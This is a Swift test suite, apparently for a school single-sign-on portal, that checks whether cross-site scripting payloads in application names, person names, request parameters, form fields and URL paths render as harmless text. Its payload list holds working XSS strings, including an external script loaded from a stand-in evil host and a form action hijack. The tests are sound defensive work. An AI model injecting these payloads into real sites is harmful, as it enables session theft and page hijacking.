import Clocks
import HTTPTypes
import JOSE
import LogeTesting
import School
import Stores
import Testing

/// Whatever people, schools and applications call themselves, it is shown as text.
@Suite("WEB-05: cross-site scripting, stored and reflected")
struct InjectionTests {
    static let payloads = [
        "<script>alert(1)</script>", "\"><script src=https://evil.exemple.net/x.js></script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "</title><svg/onload=alert(1)>", "{{{name}}}",
        "{{> head}}", "{{#languages}}x{{/languages}}", "<!--", "]]>", "&lt;script&gt;", "&#60;b&#62;",
        "javascript:alert(1)",
        "<a href=//evil.exemple.net>x</a>", "\u{202E}gpj.exe", "<style>*{display:none}</style>",
        "<base href=//evil.net>",
        "`${alert(1)}`", "<iframe srcdoc=x>", "%3Cscript%3E", "\\u003cscript\\u003e",
        "</textarea></form><form action=//evil.net>",
    ]

    /// A page is harmless, and shows the payload as it was given.
    private func check(_ page: Page, shows payload: String?, location: SourceLocation = #_sourceLocation) throws {
        try Harmless.check(page, location: location)
        guard let payload else { return }
        let scan = try page.scan()
        let wanted = payload.split(whereSeparator: \.isWhitespace).joined(separator: " ")
        let isShown =
            scan.words.contains(wanted) || scan.tags.contains { $0.attributes.values.contains { $0.contains(payload) } }
        #expect(isShown, "\(payload) on \(page.address.prefix(40))", sourceLocation: location)
    }

    @Test("names of an application", arguments: payloads)
    func applicationName(_ payload: String) async throws {
        var options = TestPortalOptions()
        let quoted = payload.replacing("'", with: "''")
        let yaml = try #require(TestParty.yaml(of: .teachers))
        options.parties["enseignants"] = yaml.replacing(
            "client_name: Application enseignants", with: "client_name: '\(quoted)'")
        try await withPortal(options) { portal in
            let browser = portal.browser()
            let attempt = TestParty.teachers.attempt()
            var page = try await browser.open(attempt.address, from: .crossSite)
            try check(page, shows: payload)
            page = try await browser.open(TestParty.teachers.attempt(["idp_hint": "ent"]).address, from: .crossSite)
            try check(page, shows: payload)
            try await browser.signIn()
            try check(try await browser.open(attempt.address, from: .crossSite), shows: payload)
            let teacher = portal.browser()
            try check(try await teacher.signIn(as: "paul.durand"), shows: payload)
            _ = try await portal.tokens(for: attempt, in: teacher)
            let done = try await teacher.submit(try await teacher.open("/oidc/logout").form(with: "confirmation"))
            try check(done, shows: payload)
        }
    }

    @Test("names of a person", arguments: payloads)
    func personName(_ payload: String) async throws {
        try await withPortal(TestPortalOptions(mailRequired: true)) { portal in
            let person = Person(givenName: payload, familyName: payload, profile: .pupil, className: payload)
            try await portal.add("piege", person)
            let browser = portal.browser()
            let settle = try await browser.enter(try await browser.open("/"), as: "piege")
            try check(settle, shows: payload)
            let home = try await browser.submit(try settle.form(with: "mail"), ["mail": "piege@exemple.fr"])
            try check(home, shows: payload)
            try check(try await browser.open("/oidc/logout"), shows: nil)
            // In tokens it is data: the client is told the truth.
            let attempt = TestParty.ent.attempt(["scope": "openid profile"])
            let tokens = try await portal.tokens(for: attempt, in: browser)
            let userInfo = try await portal.userInfo(tokens.accessToken)
            #expect(userInfo["given_name"]?.string == payload)
        }
    }

    @Test("parameters of a request", arguments: payloads)
    func parameters(_ payload: String) async throws {
        try await withPortal { portal in
            for name in ["login_hint", "ui_locales", "state", "nonce", "acr_values", "display", "claims_locales"] {
                let attempt = TestParty.ent.attempt([name: payload, "idp_hint": "ent"])
                let page = try await portal.browser().open(attempt.address, from: .crossSite)
                #expect(page.status == 200, "\(name)")
                try check(page, shows: name == "login_hint" ? payload : nil)
            }
            for name in ["client_id", "redirect_uri", "idp_hint"] {
                let page = try await portal.browser().open(
                    TestParty.ent.attempt([name: payload]).address, from: .crossSite)
                try check(page, shows: nil)
            }
        }
    }

    @Test("what is typed, and what stands in addresses", arguments: payloads)
    func typed(_ payload: String) async throws {
        try await withPortal(TestPortalOptions(mailRequired: true)) { portal in
            let browser = portal.browser()
            let page = try await browser.open(TestParty.ent.attempt(["idp_hint": "ent"]).address, from: .crossSite)
            let form = try page.form(with: "secret")
            let refused = try await browser.submit(form, ["identifiant": payload, "secret": payload])
            #expect(refused.status == 401)
            try check(refused, shows: payload)
            try check(try await browser.submit(form, ["porte": payload, "niveau": payload]), shows: nil)
            let values = ["identifiant": "nouveau.venu", "secret": TestPortal.activationCode]
            let settle = try await browser.submit(form, values)
            let again = try await browser.submit(
                try settle.form(with: "mail"), ["mail": payload, "mobile": payload, "motDePasse": payload])
            #expect(again.status == 422)
            try check(again, shows: payload)
            for path in [
                "/connexion?s=", "/connexion/memoire?retour=", "/compte/connexion?porte=ent&s=",
                "/langue?retour=/&code=",
                "/compte/nouveau-mot-de-passe?jeton=", "/compte/mot-de-passe-oublie?porte=ent&s=",
                "/oidc/logout?state=",
                "/nulle-part?",
            ] {
                let page = try await browser.open(path + percentEncoded(payload))
                try check(page, shows: nil)
            }
            for path in ["/nulle-part/", "/static/x/"] {
                try check(try await browser.open(path + percentEncoded(payload)), shows: nil)
            }
        }
    }

    private func percentEncoded(_ text: String) -> String {
        text.utf8.map { "%" + (String($0, radix: 16).count == 1 ? "0" : "") + String($0, radix: 16) }.joined()
    }
}
